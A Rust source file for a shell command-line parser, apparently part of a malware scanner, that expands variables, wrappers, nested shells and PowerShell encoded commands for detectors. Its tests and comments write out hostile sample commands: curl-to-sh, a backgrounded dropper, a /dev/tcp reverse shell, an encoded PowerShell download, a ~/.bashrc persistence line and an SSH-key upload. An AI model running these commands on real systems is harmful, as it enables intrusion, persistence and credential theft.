//! Shell command lines: the strings handed to `os.system`, `subprocess`, `child_process`,
//! Ruby backticks and npm scripts.
//!
//! A small real parser (quotes, escapes, `;` `&&` `||` `|` `&`, redirections, `$(...)`,
//! backticks, `sh -c '...'`) rather than regexes, so `curl x|sh` and `curl "x" | sh` read
//! the same. Wrappers (`nohup`, `sudo`, `setsid`, ...) yield both the wrapper and the
//! wrapped command, so a detector can ask either.
//!
//! Variables assigned in the line or script (`U=...; curl $U`, `export U=...`, the
//! first item of `for U in ...`) are expanded, and each argument records the commands
//! substituted into it, so a detector can see `$(whoami)` leave in a URL.

use std::ops::Range;

/// One simple command of a command line.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ShellCmd {
    /// The program as written (`./x`, `/usr/bin/curl`, `curl`).
    pub program: String,
    pub args: Vec<String>,
    /// Ends with `&`: runs in the background.
    pub background: bool,
    /// The program this command's output is piped into, if any.
    pub pipe_to: Option<String>,
    /// Output redirections: (`>` or `>>`, target).
    pub redirects: Vec<(String, String)>,
    /// Commands whose output an argument holds, by argument index: `whoami` for the
    /// URL of `curl x.invalid/?u=$(whoami)`, also through a variable (`U=$(whoami)`).
    pub substituted: Vec<(usize, Source)>,
}

/// A command substituted into a word (`$(...)` or backticks); the word's text has
/// [`HOLE`] where its output goes.
#[derive(Debug, Clone, PartialEq)]
pub struct Source {
    /// The program's base name.
    pub program: String,
    pub args: Vec<String>,
}

impl ShellCmd {
    /// The program's base name (`/usr/bin/curl` -> `curl`), used to look it up.
    pub fn name(&self) -> &str {
        let p = self
            .program
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(&self.program);
        p.strip_suffix(".exe").unwrap_or(p)
    }
}

/// Commands that run the rest of their arguments as another command.
const WRAPPERS: &[&str] = &[
    "nohup", "sudo", "setsid", "exec", "env", "timeout", "nice", "xargs", "command", "doas", "time",
];
/// Reserved words that start a compound command: the program follows them.
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "function",
];
/// Reserved words and tests that run no program of their own.
const CLOSERS: &[&str] = &[
    "fi", "done", "esac", "}", ";;", "for", "case", "[", "[[", "test", "in",
];

/// Programs that run the JavaScript file they are given.
pub const NODE_RUNNERS: &[&str] = &[
    "node",
    "nodejs",
    "bun",
    "deno",
    "pm2",
    "forever",
    "tsx",
    "ts-node",
    "babel-node",
];

/// Other programs that run the script file they are given.
pub const SCRIPT_RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "python",
    "python3",
    "ruby",
    "perl",
    "pwsh",
    "powershell",
];

/// Shells whose `-c` argument is itself a command line.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
/// Nested command lines deeper than this are not followed (`sh -c "sh -c ..."`).
const MAX_NESTING: usize = 8;
/// Words and operators read from one command line: a 12 MiB line of `a | b && ...`
/// would otherwise become millions of commands. The rest of the line is not read.
const MAX_TOKENS: usize = 100_000;

/// Parses a command line into its simple commands, in order.
pub fn parse(line: &str) -> Vec<ShellCmd> {
    parse_with(line, &mut Vars::default())
}

/// Parses a command line with the variables lines before it assigned (a script read
/// line by line), and records the variables this one assigns.
pub fn parse_with(line: &str, vars: &mut Vars) -> Vec<ShellCmd> {
    let mut out = Vec::new();
    parse_into(line, 0, vars, &mut out);
    out
}

/// How parsed text marks the output of a command substitution.
const HOLE: &str = "{?}";
/// Marks a `$` the shell expands (not quoted with `'...'` or `\`) until the word is
/// resolved against the variables.
const VAR_MARK: char = '\u{E000}';
/// Variables kept per command line or script: more are not recorded.
const MAX_VARS: usize = 256;
/// Characters one variable's value keeps: build scripts hold long lists in one variable
/// (libsodium's `emscripten.sh` exports 21,000 characters of function names), and 256
/// of these stay within a few MiB.
const MAX_VALUE: usize = 64 << 10;
/// Characters variable expansion may add to one command line or script in total, so
/// `A=$A$A` repeated stays linear.
const MAX_EXPANDED: usize = 1 << 20;
/// Substituted commands recorded per command.
const MAX_SOURCES: usize = 16;

/// Shell variables assigned so far (`U=...`, `export U=...`, `for U in ...`): their text
/// and the commands substituted into it. A variable never assigned stays as written
/// (`$HOME`); a `$(...)` inside a substitution sees only variables of earlier lines.
#[derive(Debug, Default)]
pub struct Vars {
    values: std::collections::HashMap<String, Resolved>,
    expanded: usize,
    /// A bound was hit: a variable not recorded, a value cut, an expansion left as written.
    cut: bool,
}

impl Vars {
    /// Why some variables were not followed, when a bound was hit: the caller makes the
    /// file's result partial (an attacker chooses how many variables a script has).
    pub fn cut_short(&self) -> Option<String> {
        self.cut.then(|| {
            format!(
                "shell variables past the bounds ({MAX_VARS} names, {MAX_VALUE} characters each, {MAX_EXPANDED} expanded) were not followed"
            )
        })
    }

    /// Records `name=value`, within the table's bounds.
    fn set(&mut self, name: &str, mut value: Resolved) {
        if self.values.len() >= MAX_VARS && !self.values.contains_key(name) {
            self.cut = true;
            return;
        }
        if value.text.len() > MAX_VALUE {
            self.cut = true;
            let mut end = MAX_VALUE;
            while !value.text.is_char_boundary(end) {
                end -= 1;
            }
            value.text.truncate(end);
        }
        self.values.insert(name.to_string(), value);
    }

    /// Records a `name=value` word; other words are not assignments and change nothing.
    fn assign(&mut self, word: &Resolved) {
        if !is_assignment(&word.text) {
            return;
        }
        let (name, value) = word.text.split_once('=').unwrap_or_default();
        let value = Resolved {
            text: value.to_string(),
            sources: word.sources.clone(),
        };
        self.set(name, value);
    }
}

/// A word after its substitutions and variables are filled in.
#[derive(Debug, Clone, Default, PartialEq)]
struct Resolved {
    text: String,
    sources: Vec<Source>,
}

/// A word as lexed: its text (with [`VAR_MARK`] before expandable `$`) and the
/// command substitutions in it, as indices into the lexer's `nested` list.
#[derive(Debug, Default, PartialEq)]
struct Word {
    text: String,
    subs: Vec<usize>,
}

#[derive(Debug, PartialEq)]
enum Tok {
    Word(Word),
    Op(&'static str),
}

/// Commands that declare variables from their `NAME=value` arguments.
const DECLARERS: &[&str] = &["export", "local", "readonly", "declare", "typeset"];

fn parse_into(line: &str, nesting: usize, vars: &mut Vars, out: &mut Vec<ShellCmd>) {
    if nesting > MAX_NESTING {
        return;
    }
    let first = out.len();
    let mut nested = Vec::new();
    let toks = lex(line, &mut nested);
    // Where each substitution's commands are in `out`, to name what a word holds.
    let mut produced = Vec::with_capacity(nested.len());
    for inner in nested {
        let before = out.len();
        parse_into(&inner, nesting + 1, vars, out);
        produced.push(before..out.len());
    }
    let mut cur = ShellCmd::default();
    let mut words: Vec<Resolved> = Vec::new();
    let mut pending_redirect: Option<&'static str> = None;
    let mut pipeline_start = out.len();
    let flush = |words: &mut Vec<Resolved>,
                 cur: &mut ShellCmd,
                 vars: &mut Vars,
                 out: &mut Vec<ShellCmd>| {
        let mut w = std::mem::take(words);
        // Leading `VAR=value` assignments are not the program; alone, they set variables.
        let assignments = w.iter().take_while(|x| is_assignment(&x.text)).count();
        if assignments == w.len() {
            w.iter().for_each(|x| vars.assign(x));
        }
        w.drain(..assignments);
        // Control keywords introduce the command after them (`then curl ...`); closing
        // ones and `[ ... ]` tests stand for no program.
        let keywords = w
            .iter()
            .take_while(|x| KEYWORDS.contains(&x.text.as_str()))
            .count();
        w.drain(..keywords);
        if w.first().is_some_and(|x| x.text == "for") {
            loop_variable(&w, vars);
        }
        if w.first()
            .is_some_and(|x| CLOSERS.contains(&x.text.as_str()))
        {
            w.clear();
        }
        if w.is_empty() {
            *cur = ShellCmd::default();
            return;
        }
        if DECLARERS.contains(&w[0].text.as_str()) {
            w[1..].iter().for_each(|x| vars.assign(x));
        }
        let mut cmd = std::mem::take(cur);
        for (i, word) in w.iter_mut().enumerate().skip(1) {
            for source in std::mem::take(&mut word.sources) {
                if cmd.substituted.len() < MAX_SOURCES {
                    cmd.substituted.push((i - 1, source));
                }
            }
        }
        let mut w = w.into_iter().map(|x| x.text);
        cmd.program = w.next().unwrap_or_default();
        cmd.args = w.collect();
        expand(cmd, nesting, vars, out);
    };
    for t in toks {
        match t {
            Tok::Word(w) => {
                let w = resolve(w, &produced, vars, out);
                match pending_redirect.take() {
                    Some(op) => cur.redirects.push((op.to_string(), w.text)),
                    None => words.push(w),
                }
            }
            Tok::Op(op @ (">" | ">>")) => pending_redirect = Some(op),
            Tok::Op("<") => pending_redirect = Some("<"),
            Tok::Op(op) => {
                let before = out.len();
                flush(&mut words, &mut cur, vars, out);
                if op == "&" {
                    for c in &mut out[before..] {
                        c.background = true;
                    }
                    for c in &mut out[pipeline_start..before] {
                        c.background = true;
                    }
                }
                if op == "|" {
                    // Remember where this pipeline's left side ends; the next command is its sink.
                    if let Some(next) = out.len().checked_sub(1) {
                        out[next].pipe_to = Some(String::new());
                    }
                } else {
                    pipeline_start = out.len();
                }
            }
        }
    }
    flush(&mut words, &mut cur, vars, out);
    // Fill in pipe targets now that every command is known: the first command after each
    // that is not a wrapper (one backward pass, so `a|nohup|nohup|...` stays linear).
    let mut next: Option<String> = None;
    for c in out[first..].iter_mut().rev() {
        if c.pipe_to.as_deref() == Some("") {
            c.pipe_to = next.clone();
        }
        if !WRAPPERS.contains(&c.name()) {
            next = Some(c.name().to_string());
        }
    }
    out.retain(|c| c.redirects.iter().all(|(op, _)| op != "<") || !c.program.is_empty());
}

/// Adds `cmd`, then what it wraps: `nohup x &` also yields `x &`, `sh -c 'y'` yields `y`.
fn expand(mut cmd: ShellCmd, nesting: usize, vars: &mut Vars, out: &mut Vec<ShellCmd>) {
    let name = cmd.name().to_string();
    if let Some(file) = download_output(&name, &cmd.args) {
        cmd.redirects.push((">".to_string(), file));
    }
    let powershell = name.eq_ignore_ascii_case("powershell") || name.eq_ignore_ascii_case("pwsh");
    let inner_line = if SHELLS.contains(&name.as_str()) || powershell || name == "cmd" {
        let flag = cmd.args.iter().position(|a| {
            matches!(a.as_str(), "-c" | "/c" | "/C") || a.eq_ignore_ascii_case("-command")
        });
        let encoded = cmd
            .args
            .iter()
            .position(|a| powershell && is_encoded_command_flag(a));
        match (flag, encoded) {
            (Some(i), _) => cmd.args.get(i + 1).cloned(),
            (None, Some(i)) => cmd.args.get(i + 1).and_then(|b| decode_utf16le_base64(b)),
            (None, None) => None,
        }
    } else {
        None
    };
    let wrapped = WRAPPERS.contains(&name.as_str()).then(|| {
        let skip = cmd
            .args
            .iter()
            .take_while(|a| a.starts_with('-') || is_assignment(a))
            .count();
        let skip = if name == "timeout" { skip + 1 } else { skip };
        skip.min(cmd.args.len())
    });
    // The wrapped command: the arguments after the wrapper's own options, the program first.
    let wrapped = wrapped
        .filter(|&skip| skip < cmd.args.len())
        .map(|skip| ShellCmd {
            program: cmd.args[skip].clone(),
            args: cmd.args[skip + 1..].to_vec(),
            background: cmd.background,
            pipe_to: None,
            redirects: cmd.redirects.clone(),
            substituted: cmd
                .substituted
                .iter()
                .filter(|(i, _)| *i > skip)
                .map(|(i, s)| (i - skip - 1, s.clone()))
                .collect(),
        });
    let background = cmd.background;
    out.push(cmd);
    if nesting > MAX_NESTING {
        return; // `nohup nohup nohup ...` a hundred thousand times deep
    }
    if let Some(line) = inner_line {
        let before = out.len();
        parse_into(&line, nesting + 1, vars, out);
        for c in &mut out[before..] {
            c.background |= background;
        }
    }
    if let Some(w) = wrapped {
        expand(w, nesting + 1, vars, out);
    }
}

/// The file a downloader writes to: `curl -o F` (also grouped, `-fsSLo F`),
/// `curl --output F`, `wget -O F`, `wget --output-document=F`.
fn download_output(program: &str, args: &[String]) -> Option<String> {
    let (short, long) = match program {
        "curl" => ('o', "--output"),
        "wget" => ('O', "--output-document"),
        _ => return None,
    };
    for (i, a) in args.iter().enumerate() {
        if let Some(v) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
            return Some(v.to_string());
        }
        let grouped_short = a.len() >= 2
            && !a.starts_with("--")
            && a.starts_with('-')
            && a.ends_with(short)
            && a[1..].chars().all(|c| c.is_ascii_alphabetic());
        if a == long || grouped_short {
            return args.get(i + 1).cloned();
        }
    }
    None
}

/// The local files a command uploads: `curl -F f=@F` (or `f=<F`), `curl -d @F` and the
/// other `--data` forms, `curl -T F`, `wget --post-file=F` / `--body-file`.
pub fn uploaded_files<'a>(program: &str, args: &[&'a str]) -> Vec<&'a str> {
    const FORM: &[&str] = &["-F", "--form"];
    const DATA: &[&str] = &["-d", "--data", "--data-binary", "--data-ascii", "--json"];
    const WHOLE: &[&str] = &["-T", "--upload-file", "--post-file", "--body-file"];
    let curl = program == "curl";
    let mut files = Vec::new();
    for (i, &a) in args.iter().enumerate() {
        let value = || args.get(i + 1).copied();
        let file = if curl && FORM.contains(&a) {
            value().and_then(form_file)
        } else if curl && DATA.contains(&a) {
            value().and_then(|v| v.strip_prefix('@'))
        } else if curl && a.starts_with("-F") {
            form_file(&a[2..])
        } else if curl && a.starts_with("-d") {
            a[2..].strip_prefix('@')
        } else if WHOLE.contains(&a) && (curl || !a.starts_with("-T")) {
            value()
        } else {
            a.strip_prefix("--post-file=")
                .or_else(|| a.strip_prefix("--body-file="))
        };
        files.extend(file.filter(|f| !f.is_empty() && *f != "-"));
    }
    files
}

/// The file of a curl form field that uploads one: `name=@F;type=...` or `name=<F`.
fn form_file(field: &str) -> Option<&str> {
    let (_, value) = field.split_once('=')?;
    let file = value
        .strip_prefix('@')
        .or_else(|| value.strip_prefix('<'))?;
    Some(file.split(';').next().unwrap_or(file))
}

/// PowerShell's `-EncodedCommand` and the prefixes it accepts (`-e`, `-enc`, `-ec`).
pub fn is_encoded_command_flag(arg: &str) -> bool {
    let Some(flag) = arg.strip_prefix(['-', '/']) else {
        return false;
    };
    let flag = flag.to_ascii_lowercase();
    flag == "ec" || (!flag.is_empty() && "encodedcommand".starts_with(&flag))
}

/// A PowerShell encoded command: base64 of UTF-16LE text.
fn decode_utf16le_base64(b64: &str) -> Option<String> {
    let bytes: Vec<u8> = crate::lang::decode::decode_base64_bytes(b64)?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .collect();
    Some(String::from_utf16_lossy(&units))
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Splits a command line into words and operators. Command substitutions (`$(...)`,
/// backticks) are collected into `nested` and stand in the word as [`HOLE`].
fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
    let mut heredocs: Vec<String> = Vec::new();
    let mut toks = Vec::new();
    let mut word = Word::default();
    let mut in_word = false;
    let chars: Vec<char> = line.chars().collect();
    let mut i = 0;
    let end_word = |word: &mut Word, in_word: &mut bool, toks: &mut Vec<Tok>| {
        if *in_word {
            toks.push(Tok::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    let substitute = |word: &mut Word, nested: &mut Vec<String>, inner: String| {
        word.subs.push(nested.len());
        nested.push(inner);
        word.text.push_str(HOLE);
    };
    while i < chars.len() && toks.len() < MAX_TOKENS {
        let c = chars[i];
        match c {
            ' ' | '\t' | '\r' => end_word(&mut word, &mut in_word, &mut toks),
            '\n' | ';' => {
                end_word(&mut word, &mut in_word, &mut toks);
                toks.push(Tok::Op(";"));
                // A here-document's body is data for the command, not commands: skip to
                // the line that holds only its delimiter.
                if c == '\n' {
                    for delimiter in heredocs.drain(..) {
                        while i + 1 < chars.len() {
                            let start = i + 1;
                            let end = chars[start..]
                                .iter()
                                .position(|x| *x == '\n')
                                .map_or(chars.len(), |p| start + p);
                            let line: String = chars[start..end].iter().collect();
                            i = end;
                            if line.trim() == delimiter {
                                break;
                            }
                        }
                    }
                }
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '&' | '|' => {
                end_word(&mut word, &mut in_word, &mut toks);
                let double = chars.get(i + 1) == Some(&c);
                if c == '&' && chars.get(i + 1) == Some(&'>') {
                    i += 1; // `&>` redirects both streams
                    toks.push(Tok::Op(">"));
                } else if double {
                    i += 1;
                    toks.push(Tok::Op(";"));
                } else {
                    toks.push(Tok::Op(if c == '&' { "&" } else { "|" }));
                }
            }
            '<' if chars.get(i + 1) == Some(&'<') && chars.get(i + 2) != Some(&'<') => {
                // `<<EOF` / `<<-'EOF'`: remember the delimiter; the body starts next line.
                end_word(&mut word, &mut in_word, &mut toks);
                i += 2;
                while i < chars.len() && matches!(chars[i], '-' | ' ') {
                    i += 1;
                }
                let (delimiter, used) = delimiter_at(&chars[i..]);
                i += used;
                if !delimiter.is_empty() {
                    heredocs.push(delimiter);
                }
                continue;
            }
            '>' | '<' => {
                // `2>&1` and `>&2` are stream plumbing, not files.
                let fd_dup = chars.get(i + 1) == Some(&'&');
                if in_word && word.text.chars().all(|d| d.is_ascii_digit()) {
                    word = Word::default();
                    in_word = false;
                }
                end_word(&mut word, &mut in_word, &mut toks);
                // `>& file` (no digit after `&`) sends both streams to a file: `/dev/tcp/...`.
                let to_file = fd_dup
                    && c == '>'
                    && chars[i + 2..]
                        .iter()
                        .find(|x| **x != ' ')
                        .is_some_and(|x| !x.is_ascii_digit() && *x != '-');
                if to_file {
                    i += 1;
                    toks.push(Tok::Op(">"));
                } else if fd_dup {
                    i += 2;
                    while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '-') {
                        i += 1;
                    }
                    continue;
                }
                if c == '>' && chars.get(i + 1) == Some(&'>') {
                    i += 1;
                    toks.push(Tok::Op(">>"));
                } else {
                    toks.push(Tok::Op(if c == '>' { ">" } else { "<" }));
                }
            }
            '(' | ')' if !in_word => {
                end_word(&mut word, &mut in_word, &mut toks);
                toks.push(Tok::Op(";"));
            }
            '\'' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.text.push(chars[i]);
                    i += 1;
                }
            }
            '"' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    let escaped = chars[i] == '\\' && i + 1 < chars.len();
                    if escaped {
                        i += 1;
                    }
                    if !escaped && chars[i] == '$' && chars.get(i + 1) == Some(&'(') {
                        let (inner, next) = balanced(&chars, i + 2);
                        substitute(&mut word, nested, inner);
                        i = next;
                        continue;
                    }
                    if !escaped && chars[i] == '`' {
                        let (inner, next) = backticked(&chars, i + 1);
                        substitute(&mut word, nested, inner);
                        i = next;
                        continue;
                    }
                    if !escaped && chars[i] == '$' && starts_variable(chars.get(i + 1)) {
                        word.text.push(VAR_MARK);
                    }
                    word.text.push(chars[i]);
                    i += 1;
                }
            }
            '`' => {
                in_word = true;
                let (inner, next) = backticked(&chars, i + 1);
                substitute(&mut word, nested, inner);
                i = next;
                continue;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                in_word = true;
                let (inner, next) = balanced(&chars, i + 2);
                substitute(&mut word, nested, inner);
                i = next;
                continue;
            }
            '$' if starts_variable(chars.get(i + 1)) => {
                in_word = true;
                word.text.push(VAR_MARK);
                word.text.push(c);
            }
            '\\' => {
                in_word = true;
                if let Some(n) = chars.get(i + 1) {
                    if *n != '\n' {
                        word.text.push(*n);
                    }
                    i += 1;
                }
            }
            _ => {
                in_word = true;
                word.text.push(c);
            }
        }
        i += 1;
    }
    end_word(&mut word, &mut in_word, &mut toks);
    toks
}

/// Whether a `$` followed by this character expands a named variable (`$U`, `${U}`).
fn starts_variable(next: Option<&char>) -> bool {
    next.is_some_and(|c| c.is_ascii_alphabetic() || *c == '_' || *c == '{')
}

/// Fills in a lexed word: its substitutions become the commands whose output it holds,
/// and each marked `$NAME` / `${NAME}` the variable's value if it was assigned (else it
/// stays as written).
fn resolve(word: Word, produced: &[Range<usize>], vars: &mut Vars, out: &[ShellCmd]) -> Resolved {
    let mut sources: Vec<Source> = word
        .subs
        .iter()
        .filter_map(|&k| produced.get(k))
        // `get`: a later substitution's parse may have dropped commands before this one.
        .filter_map(|r| out.get(r.clone()))
        .flatten()
        .take(MAX_SOURCES)
        .map(|c| Source {
            program: c.name().to_string(),
            args: c.args.clone(),
        })
        .collect();
    if !word.text.contains(VAR_MARK) {
        return Resolved {
            text: word.text,
            sources,
        };
    }
    let mut text = String::with_capacity(word.text.len());
    let mut rest = word.text.as_str();
    while let Some(at) = rest.find(VAR_MARK) {
        text.push_str(&rest[..at]);
        rest = &rest[at + VAR_MARK.len_utf8()..];
        let (name, used) = variable_at(rest);
        let value = vars.values.get(name);
        match value.filter(|v| vars.expanded + v.text.len() <= MAX_EXPANDED) {
            Some(v) => {
                vars.expanded += v.text.len();
                text.push_str(&v.text);
                let room = MAX_SOURCES.saturating_sub(sources.len());
                sources.extend(v.sources.iter().take(room).cloned());
            }
            None => {
                vars.cut |= value.is_some();
                text.push_str(&rest[..used]);
            }
        }
        rest = &rest[used..];
    }
    text.push_str(rest);
    Resolved { text, sources }
}

/// The variable name a `$` starts (`rest` begins at the `$`) and how many bytes the
/// reference takes: `$U` or `${U}`. `${U:-x}` and other operators give an empty name,
/// which no variable has, so they stay as written.
fn variable_at(rest: &str) -> (&str, usize) {
    // The mark's character written in the input itself marks nothing.
    if !rest.starts_with('$') {
        return ("", 0);
    }
    let ident = |s: &str| {
        s.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(s.len())
    };
    let body = &rest[1..];
    match body.strip_prefix('{') {
        Some(inner) => {
            let n = ident(inner);
            if inner[n..].starts_with('}') {
                (&inner[..n], n + 3)
            } else {
                ("", 1)
            }
        }
        None => {
            let n = ident(body);
            (&body[..n], n + 1)
        }
    }
}

/// `for NAME in ITEMS`: the loop variable holds the first item, so the body reads as its
/// first pass (`for f in ~/.ssh/id_rsa ...; do curl -T $f ...`). `for NAME` alone loops
/// over the script's arguments, which are unknown.
fn loop_variable(words: &[Resolved], vars: &mut Vars) {
    let (Some(name), Some(first)) = (words.get(1), words.get(3)) else {
        return;
    };
    if words[2].text == "in" && is_assignment(&format!("{}=", name.text)) {
        vars.set(&name.text, first.clone());
    }
}

/// The here-document delimiter word at the start of `chars` (quotes removed), and how
/// many characters it used.
fn delimiter_at(chars: &[char]) -> (String, usize) {
    let used = chars
        .iter()
        .take_while(|x| !x.is_whitespace() && !matches!(x, ';' | '|' | '&' | ')'))
        .count();
    (
        chars[..used]
            .iter()
            .filter(|x| !matches!(x, '\'' | '"'))
            .collect(),
        used,
    )
}

/// Cuts a long command line into pieces of about `size` bytes at command boundaries
/// (`;`, `&&`, `||`, `&` outside quotes, substitutions and parentheses), so each piece
/// is parsed on its own and the whole line is read in linear time: a 12 MiB line of
/// `a | b && …` ending in `curl … | sh` is read to its end. Pipes are never cut.
pub fn split_commands(line: &str, size: usize) -> Vec<&str> {
    let bytes = line.as_bytes();
    let mut pieces = Vec::new();
    let (mut single, mut double, mut escaped) = (false, false, false);
    let (mut depth, mut backtick) = (0usize, false);
    let mut start = 0;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let mut boundary = None;
        match b {
            _ if escaped => escaped = false,
            b'\\' if !single => escaped = true,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            _ if single || double => {}
            b'`' => backtick = !backtick,
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            _ if depth > 0 || backtick => {}
            b';' => boundary = Some(i + 1),
            b'&' | b'|' if bytes.get(i + 1) == Some(&b) => boundary = Some(i + 2),
            b'&' if bytes.get(i + 1) != Some(&b'>') && (i == 0 || bytes[i - 1] != b'>') => {
                boundary = Some(i + 1)
            }
            _ => {}
        }
        match boundary {
            Some(end) if end - start >= size => {
                pieces.push(&line[start..end]);
                start = end;
                i = end;
            }
            Some(end) => i = end,
            None => i += 1,
        }
    }
    if start < line.len() {
        pieces.push(&line[start..]);
    }
    pieces
}

/// Quotes left open at the end of a line: the command continues on the next one.
#[derive(Debug, Default, Clone, Copy)]
pub struct OpenQuotes {
    single: bool,
    double: bool,
}

impl OpenQuotes {
    /// Reads one more line; true if the command goes on past it (an open quote, or a
    /// trailing backslash).
    pub fn continues_after(&mut self, line: &str) -> bool {
        let mut escaped = false;
        for c in line.chars() {
            match c {
                _ if escaped => escaped = false,
                '\\' if !self.single => escaped = true,
                '\'' if !self.double => self.single = !self.single,
                '"' if !self.single => self.double = !self.double,
                _ => {}
            }
        }
        self.single || self.double || escaped
    }
}

/// The delimiter of a here-document a line opens (`cat <<'EOF' > x`), if it opens one.
pub fn heredoc_delimiter(line: &str) -> Option<String> {
    let at = line
        .match_indices("<<")
        .map(|(i, _)| i)
        .find(|&i| !line[i + 2..].starts_with('<'))?;
    let rest: Vec<char> = line[at + 2..]
        .trim_start_matches(['-', ' '])
        .chars()
        .collect();
    let (delimiter, _) = delimiter_at(&rest);
    (!delimiter.is_empty()).then_some(delimiter)
}

/// The text up to the closing backtick, the opening one already consumed; returns it and
/// the index after.
fn backticked(chars: &[char], start: usize) -> (String, usize) {
    let end = chars[start.min(chars.len())..]
        .iter()
        .position(|c| *c == '`')
        .map_or(chars.len(), |p| start + p);
    (chars[start.min(end)..end].iter().collect(), end + 1)
}

/// The text up to the `)` matching an opening already consumed; returns it and the index after.
fn balanced(chars: &[char], mut i: usize) -> (String, usize) {
    let start = i;
    let mut depth = 1;
    while i < chars.len() {
        match chars[i] {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return (chars[start..i].iter().collect(), i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (chars[start..].iter().collect(), chars.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str) -> Vec<String> {
        parse(line).iter().map(|c| c.name().to_string()).collect()
    }

    #[test]
    fn pipes_into_a_shell() {
        let cmds = parse("curl -fsSL http://x.invalid/i.sh|sh");
        assert_eq!(cmds[0].name(), "curl");
        assert_eq!(cmds[0].pipe_to.as_deref(), Some("sh"));
    }

    #[test]
    fn dropper_line_with_background_and_redirect() {
        let cmds = parse(
            "wget -q http://192.0.2.1/x -O ~/.x && chmod +x ~/.x; nohup ~/.x >/dev/null 2>&1 &",
        );
        assert_eq!(
            names("wget a && chmod +x b; nohup c &"),
            ["wget", "chmod", "nohup", "c"]
        );
        let run = cmds.iter().find(|c| c.program == "~/.x").unwrap();
        assert!(run.background);
        assert_eq!(
            run.redirects,
            vec![(">".to_string(), "/dev/null".to_string())]
        );
    }

    #[test]
    fn nested_shells_and_substitutions() {
        assert_eq!(
            names("bash -c 'curl http://x.invalid | bash'"),
            ["bash", "curl", "bash"]
        );
        assert!(names("echo $(whoami)").contains(&"whoami".to_string()));
        assert!(names("echo `hostname`").contains(&"hostname".to_string()));
    }

    #[test]
    fn reverse_shell_redirect_and_download_output() {
        let cmds = parse("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1");
        assert_eq!(cmds[0].args, vec!["-i".to_string()]);
        assert_eq!(
            cmds[0].redirects,
            vec![(">".to_string(), "/dev/tcp/192.0.2.9/4444".to_string())]
        );
        let cmds = parse("curl -fsSLo ~/.x http://192.0.2.1/x && wget -q --output-document=/tmp/y http://192.0.2.1/y");
        assert_eq!(
            cmds[0].redirects,
            vec![(">".to_string(), "~/.x".to_string())]
        );
        assert_eq!(
            cmds[1].redirects,
            vec![(">".to_string(), "/tmp/y".to_string())]
        );
    }

    #[test]
    fn powershell_encoded_command_is_parsed() {
        // "iwr http://192.0.2.5/a" in UTF-16LE, base64.
        let line =
            "powershell -NoP -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQA=";
        assert_eq!(names(line), ["powershell", "iwr"]);
        assert!(is_encoded_command_flag("-EncodedCommand") && is_encoded_command_flag("-e"));
        assert!(!is_encoded_command_flag("-ExecutionPolicy"));
    }

    #[test]
    fn hostile_lines_stay_linear_and_shallow() {
        let wrappers = "nohup ".repeat(100_000) + "x";
        assert!(parse(&wrappers).len() <= MAX_NESTING + 2);
        let pipes = "curl x".to_string() + &"|nohup".repeat(45_000) + "|sh";
        assert_eq!(parse(&pipes)[0].pipe_to.as_deref(), Some("sh"));
        let assignments = "A=1 ".repeat(90_000) + "curl x";
        assert_eq!(names(&assignments), ["curl"]);
        // A flood of commands is cut at the token cap.
        assert!(parse(&"a | ".repeat(1_000_000)).len() <= MAX_TOKENS);
        let substitutions = "$(".repeat(50_000) + "id" + &")".repeat(50_000);
        assert!(parse(&substitutions).len() < 100);
    }

    #[test]
    fn append_to_rc_file() {
        let cmds = parse("echo 'python3 ~/.x &' >> ~/.bashrc");
        assert_eq!(
            cmds[0].redirects,
            vec![(">>".to_string(), "~/.bashrc".to_string())]
        );
        assert!(!cmds[0].background);
    }

    #[test]
    fn control_keywords_are_not_programs() {
        assert_eq!(
            names("if [ -f x ]; then curl http://x.invalid; fi"),
            ["curl"]
        );
        assert_eq!(names("while read l; do echo $l; done"), ["read", "echo"]);
    }

    #[test]
    fn here_documents_are_data() {
        let line = "cat > conf.ac <<EOF\nAC_INIT([x], [1])\ncurl http://x.invalid\nEOF\nmake";
        assert_eq!(names(line), ["cat", "make"]);
    }

    #[test]
    fn variables_are_expanded() {
        let cmds = parse("U=http://x.example.com/p.sh; curl $U | sh");
        assert_eq!(cmds[0].args, ["http://x.example.com/p.sh"]);
        assert_eq!(cmds[0].pipe_to.as_deref(), Some("sh"));
        let cmds = parse("export U=http://x.example.com; wget \"${U}/a\" '$U' \\$U $V");
        let wget = cmds.iter().find(|c| c.name() == "wget").unwrap();
        assert_eq!(wget.args, ["http://x.example.com/a", "$U", "$U", "$V"]);
        // `${U:-x}` and other operators stay as written.
        assert_eq!(parse("U=a; echo ${U:-x}")[0].args, ["${U:-x}"]);
        // A script's later lines see what earlier ones assigned.
        let mut vars = Vars::default();
        parse_with("B=http://x.example.com", &mut vars);
        assert_eq!(
            parse_with("curl $B/x", &mut vars)[0].args,
            ["http://x.example.com/x"]
        );
    }

    #[test]
